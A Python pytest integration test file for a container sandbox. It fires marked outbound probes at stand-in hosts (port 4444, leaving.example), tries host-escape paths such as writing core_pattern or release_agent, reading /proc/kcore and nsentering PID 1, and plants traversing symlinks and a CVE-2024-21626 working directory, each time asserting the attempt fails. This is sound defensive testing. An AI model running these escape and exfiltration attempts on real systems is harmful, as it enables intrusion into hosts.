"""Nothing leaves the sandbox, and nobody in it gets at the host. Looked at from outside while something tries."""

import contextlib
import os
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final, Self, TypeVar

import pytest

from pratique.model import ConversationEvent, Ending, Recording
from tests.integration.sandbox.played import image, play, remains

TRIES: Final = """
i=0
while [ $i -lt 40 ]; do
  probe tcp 203.0.113.77 4444 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  probe tcp 172.17.0.99 2375 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe udp 203.0.113.78 53 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe udp 172.17.0.1 4789 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe udp 255.255.255.255 68 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe udp 224.0.0.251 5353 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe udp fd00:ac11::77 53 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  busybox timeout 1 probe icmp 203.0.113.79 LEAVING-THE-SANDBOX >/dev/null 2>&1 &
  wget -q -O /dev/null http://leaving.example/LEAVING-THE-SANDBOX
  busybox usleep 100000
  i=$((i + 1))
done
"""
MARK: Final = b"LEAVING-THE-SANDBOX"
PATIENCE_S: Final = 60.0
T = TypeVar("T")


def awaited(find: Callable[[], T | None]) -> T:
    deadline = time.monotonic() + PATIENCE_S
    while time.monotonic() < deadline:
        found = find()
        if found is not None:
            return found
        time.sleep(0.02)
    msg = "it did not come"
    raise AssertionError(msg)


def sinkhole_of(parent: int) -> int | None:
    """The sinkhole below a process, once the container's interface is in its namespace."""
    for path in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            command = (path / "cmdline").read_bytes()
            keeper = int((path / "stat").read_text().rpartition(")")[2].split()[1])
            above = int(Path(f"/proc/{keeper}/stat").read_text().rpartition(")")[2].split()[1])
            if b"pratique.sandbox.sinkhole" in command and above == parent and "sink0" in interfaces(int(path.name)):
                return int(path.name)
    return None


def interfaces(pid: int) -> list[str]:
    output = subprocess.run(
        ["nsenter", f"--net=/proc/{pid}/ns/net", "ip", "-o", "link"], capture_output=True, text=True, check=False
    ).stdout
    return sorted(line.split(": ")[1].partition("@")[0] for line in output.splitlines())


def first_process() -> int | None:
    """The first process of the container, once it is the image's program."""
    for path in Path("/sys/fs/cgroup/pids").glob(f"pratique-sandbox-{os.getpid()}-*/*/cgroup.procs"):
        for pid in path.read_text().split():
            if Path(f"/proc/{pid}/cmdline").read_bytes().startswith(b"/bin/sh\0"):  # runc's own steps are over
                return int(pid)
    return None


class Played:
    """A run in a thread, to be looked at meanwhile."""

    def __init__(self, script: str, *, for_s: float) -> None:
        self.recording: Recording | None = None
        self._thread = threading.Thread(target=self._run, args=(script, for_s))

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *error: object) -> None:
        self._thread.join()

    def _run(self, script: str, for_s: float) -> None:
        self.recording = play(script, for_s=for_s)

    def finish(self) -> Recording:
        self._thread.join()
        assert self.recording is not None
        return self.recording


class Sniffer:
    """Counts frames with the mark that pass any interface of this network namespace, a bridge of ours among them."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self._socket.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)
        self._socket.settimeout(0.1)

    def marked(self, until: Callable[[], bool]) -> list[str]:
        """The interfaces on which the mark was seen, until something is so."""
        seen = []
        while not until():
            with contextlib.suppress(TimeoutError):
                packet, source = self._socket.recvfrom(65535)
                if MARK in packet:
                    seen.append(source[0])
        return seen

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *error: object) -> None:
        self._socket.close()


@pytest.fixture
def bridge() -> Iterator[str]:
    name = f"pqsb{os.getpid() % 100000}"
    subprocess.run(["ip", "link", "add", name, "type", "bridge"], check=True)
    subprocess.run(["ip", "link", "set", name, "up"], check=True)
    yield name
    subprocess.run(["ip", "link", "del", name], check=True)


def test_nothing_leaves(bridge: str) -> None:
    before = interfaces(os.getpid())
    assert bridge in before
    with Sniffer() as outside, Played(TRIES, for_s=8.0) as played:
        sinkhole = awaited(lambda: sinkhole_of(os.getpid()))
        container = awaited(first_process)
        assert interfaces(sinkhole) == ["lo", "sink0"]
        assert interfaces(container) == ["eth0", "lo"]
        assert interfaces(os.getpid()) == before, "nothing of it is in the host's namespace"
        forwarding = f"nsenter --net=/proc/{sinkhole}/ns/net cat /proc/sys/net/ipv4/ip_forward"
        assert subprocess.run(forwarding.split(), capture_output=True, text=True, check=True).stdout == "0\n"
        inside = sniff_in(sinkhole)
        assert outside.marked(lambda: played.recording is not None) == []
        assert inside() > 50, "what was to be seen outside was seen where it ended"
        recording = played.finish()
    told = {(event.address, event.port) for event in recording.recorded if isinstance(event, ConversationEvent)}
    assert told >= {
        ("203.0.113.77", 4444),
        ("172.17.0.99", 2375),
        ("203.0.113.78", 53),
        ("172.17.0.1", 4789),
        ("fd00:ac11::77", 53),
    }


def sniff_in(pid: int) -> Callable[[], int]:
    """Count marked packets in a process's network namespace; the function returned gives the number in the end."""
    code = (
        "import socket\n"
        "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.settimeout(4); n = 0\n"
        "try:\n"
        f"    while True: n += {MARK!r} in s.recv(65535)\n"
        "except OSError: print(n)\n"
    )
    process = subprocess.Popen(
        ["nsenter", f"--net=/proc/{pid}/ns/net", "python3", "-c", code], stdout=subprocess.PIPE, text=True
    )
    return lambda: int(process.communicate()[0])


def test_root_in_the_sandbox_is_nobody_outside() -> None:
    with Played("while :; do sleep 0.1; done", for_s=4.0):
        pid = awaited(first_process)
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        fields = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
        assert int(fields["Uid"].split()[0]) >= 0x6000_0000
        assert int(fields["Gid"].split()[0]) >= 0x6000_0000
        for kind in ("user", "pid", "mnt", "net", "ipc", "uts", "cgroup"):
            assert Path(f"/proc/{pid}/ns/{kind}").readlink() != Path(f"/proc/self/ns/{kind}").readlink(), kind


def test_filter_and_capabilities_are_what_they_are_meant_to_be() -> None:
    recording = play("cat /proc/self/status")
    fields = dict(line.split(":\t", 1) for line in recording.output.decode().splitlines() if ":\t" in line)
    assert (fields["NoNewPrivs"], fields["Seccomp"]) == ("1", "2")
    assert int(fields["CapBnd"], 16) == int(fields["CapEff"], 16) == 0b11111011


def test_host_is_out_of_reach() -> None:
    recording = play(
        """
        for path in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/kernel/uevent_helper \
            /sys/fs/cgroup/release_agent /proc/sys/kernel/modprobe; do
          if (echo x >$path) 2>/dev/null; then echo WROTE $path; fi
        done
        [ "$(busybox head -c 1 /proc/kcore 2>/dev/null | busybox wc -c)" = 0 ] || echo READ kcore
        busybox dmesg >/dev/null 2>&1 && echo READ dmesg
        for device in sda vda mem kmsg kvm fuse; do [ -e /dev/$device ] && echo HAS $device; done
        busybox nsenter -t 1 -m true 2>/dev/null && echo ENTERED
        [ $(echo /proc/[0-9]* | busybox wc -w) -gt 4 ] && echo SEES more than its own processes
        for name in run/merged run/bundle etc/shadow usr/sbin/runc; do
          [ -e /proc/1/root/$name ] && echo SEES $name
        done
        busybox mount --bind / /mnt 2>/dev/null && echo MOUNTED
        busybox mount -o remount,rw /proc/sys 2>/dev/null && echo REMOUNTED
        ls /proc/1/root >/dev/null && echo own root only
        """
    )
    words = {line.split()[0] for line in recording.output.decode().splitlines()}
    assert not words & {"WROTE", "READ", "HAS", "ENTERED", "SEES", "MOUNTED", "REMOUNTED"}, recording.output
    assert b"own root only" in recording.output


def test_working_directory_of_the_runtimes_descriptors_is_refused() -> None:
    """CVE-2024-21626: a working directory below /proc/self/fd leads an old runc to the host."""
    for files, directory in ((None, "/proc/self/fd/7"), ({"way": "/proc/self/fd/8"}, "/way"), (None, "/dev/fd/7/x")):
        recording = play(image(files, Cmd=["/bin/ls", "."], WorkingDir=directory))
        assert recording.ending is Ending.FAILED, directory
        assert recording.sensed == ()


def test_link_in_the_place_of_a_system_directory_is_refused() -> None:
    recording = play(image({"proc": "/tmp"}, Cmd=["/bin/ls"]))
    assert recording.ending is Ending.FAILED


def test_links_of_the_image_lead_nowhere_outside(tmp_path: Path) -> None:
    bystander = tmp_path / "bystander"
    bystander.mkdir()
    (bystander / "passwd").write_text("untouched\n")
    climbing = "../" * 12 + str(bystander).lstrip("/")
    files: dict[str, bytes | str] = {
        "etc/resolv.conf": str(bystander / "passwd"),
        "etc/hosts": f"{climbing}/passwd",
        "root/.aws": str(bystander),
        "root/.ssh": climbing,
        "var/run": climbing,
        "etc/ssl/certs/ca-certificates.crt": str(bystander / "passwd"),
    }
    recording = play(image(files, Cmd=["/bin/sh", "-c", "echo ran; cat /etc/resolv.conf"]))
    assert recording.output.startswith(b"ran\nnameserver 172.17.0.1")
    assert [path.name for path in bystander.iterdir()] == ["passwd"]
    assert (bystander / "passwd").read_text() == "untouched\n"
    assert remains() == []
